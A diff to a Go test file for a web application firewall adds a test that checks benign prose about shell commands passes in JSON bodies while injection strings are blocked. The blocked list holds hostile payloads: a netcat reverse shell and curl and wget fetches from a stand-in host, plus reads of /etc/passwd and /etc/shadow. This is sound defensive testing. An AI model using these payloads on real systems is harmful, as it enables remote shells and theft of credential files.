@@ -124,7 +124,9 @@ func TestAttackCorpus(t *testing.T) {
 		t.Fatalf("%d attack requests, want at least 200", len(reqs))
 	}
 	without := shippedWAF(t)
-	without.Exclusions = append(without.Exclusions, topology.Exclusion{IDs: ownRuleIDs, Reason: "measure CRS alone"})
+	// CRS PL1 as it ran before decagon's rules: none of api-rules.conf, and JSON values not
+	// taken out of CRS's command-word rules (10102).
+	without.Exclusions = append(without.Exclusions, topology.Exclusion{IDs: append([]int{10102}, ownRuleIDs...), Reason: "measure CRS alone"})
 	rate := func(cfg topology.WAF) (float64, map[string][2]int) {
 		s := newStack(t, Config{WAF: cfg})
 		per := map[string][2]int{}
@@ -174,6 +176,31 @@ func TestKnownFalsePositives(t *testing.T) {
 		t.Logf("%q: %d of 4 shapes refused", text, blocked)
 		if blocked == 0 {
 			t.Errorf("%q passes now: move it to benign.txt", text)
+		}
+	}
+}
+
+// TestJSONProse: prose and code snippets that CRS's command-word rules refuse elsewhere pass
+// as JSON values, which rule 10102 takes out of those rules; an attack in the same place is
+// still refused by the rules that replace them.
+func TestJSONProse(t *testing.T) {
+	s := newStack(t, Config{WAF: shippedWAF(t)})
+	for _, text := range []string{
+		"In bash, use ls -la | grep foo to filter", "cat file.txt | wc -l counts the lines",
+		"The shell script printed /usr/bin/env python3", "Files live under /etc/app/config.yaml on the server",
+		"See C:\\Program Files\\App\\app.exe", "The function exec() runs a command", "wget and curl are both download tools",
+		"Set the variable $HOME to your home folder", "Use `sudo systemctl restart nginx` to restart", "Grep is handy; so is sed",
+	} {
+		rq := request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":` + jsonString(text) + `,"data":{"note":` + jsonString(text) + `}}`}
+		if rec := s.do(t, rq); rec.Code != http.StatusOK {
+			recs := s.logs.records(t)
+			t.Errorf("%q: status %d: %v", text, rec.Code, recs[len(recs)-1]["reason"])
+		}
+	}
+	for _, attack := range []string{"; cat /etc/passwd", "| nc -e /bin/sh evil.example 4444", "$(curl http://evil.example/x)", "`id`", "../../../etc/shadow", "&& wget http://evil.example/a -O /tmp/a"} {
+		rq := request{method: "POST", target: "/test", contentType: "application/json", body: `{"name":"x","data":{"note":` + jsonString(attack) + `}}`}
+		if rec := s.do(t, rq); rec.Code != http.StatusForbidden {
+			t.Errorf("%q in JSON: status %d, want 403", attack, rec.Code)
 		}
 	}
 }
